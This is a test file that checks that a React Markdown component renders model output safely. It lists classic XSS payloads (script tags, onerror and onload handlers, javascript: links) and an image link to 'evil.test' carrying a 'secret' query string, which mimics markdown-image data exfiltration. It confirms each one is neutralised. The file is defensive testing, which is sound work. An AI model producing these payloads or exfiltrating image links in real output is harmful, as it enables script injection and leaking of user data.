import { MantineProvider } from '@mantine/core'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { Markdown } from './markdown.tsx'

const htmlOf = (text: string) =>
  renderToStaticMarkup(
    createElement(MantineProvider, null, createElement(Markdown, { text, growing: false })),
  ).replace(/<style[\s\S]*?<\/style>/g, '')

describe('Markdown of a model (T71)', () => {
  it.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<svg onload=alert(1)></svg>',
    '<iframe src="https://evil.test"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
  ])('shows %s as text', (text) => {
    const html = htmlOf(`Before ${text} after\n\n${text}`)
    expect(html).toContain('&lt;')
    expect(html).not.toMatch(/<(?:img|script|iframe|a )/)
  })

  it.each(['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', '/auth/logout', '//evil.test'])(
    'keeps the words of a link to %s and leads nowhere',
    (url) => {
      const html = htmlOf(`[words](${url}) ![pic](${url})`)
      expect(html).toContain('words')
      expect(html).not.toContain('href')
      expect(html).not.toContain('<img')
    },
  )

  it('opens the web in another window, which learns nothing of this one', () => {
    expect(htmlOf('[go](https://example.test/)')).toContain(
      '<a href="https://example.test/" target="_blank" rel="noopener noreferrer nofollow">go</a>',
    )
  })

  it('never loads an image', () => {
    const html = htmlOf(
      '![pic](https://evil.test/?q=secret)\n\n| a |\n| - |\n| ![b](http://evil.test/b.png) |',
    )
    expect(html).toContain('Image not loaded: pic (https://evil.test/?q=secret)')
    expect(html).not.toMatch(/<img|src=/)
  })
})
